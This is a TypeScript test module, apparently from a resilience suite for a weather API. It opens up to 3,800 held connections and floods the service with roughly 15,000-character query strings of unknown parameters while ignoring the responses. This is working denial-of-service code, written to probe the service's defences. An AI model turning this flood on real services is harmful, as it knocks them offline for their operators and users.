import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackedService } from './attacked-service.js';
import { HeldConnections } from './held-connections.js';

const CONNECTIONS = 3_800;
const AT_ONCE = 20;
const EVERY_MS = 20;
const QUERY_CHARACTERS = 15_000;

/**
 * An anonymous caller sends as many unknown parameters as a URL holds, over 3,800 connections, and reads no response.
 */
export async function attack(service: AttackedService, seconds: number): Promise<string> {
  let query = '';
  for (let i = 0; query.length < QUERY_CHARACTERS; i++) query += `${i.toString(36)}=&`;
  using connections = new HeldConnections(service.port);
  const endMs = performance.now() + seconds * 1000;
  for (let i = 0; performance.now() < endMs && service.isRunning; i++) {
    if (connections.count < CONNECTIONS)
      for (let k = 0; k < AT_ONCE; k++) connections.send(`/v1/weather/fields?${query}`);
    await sleep(EVERY_MS);
  }
  return `${connections.count} connections left, ${connections.closed} closed by the service`;
}
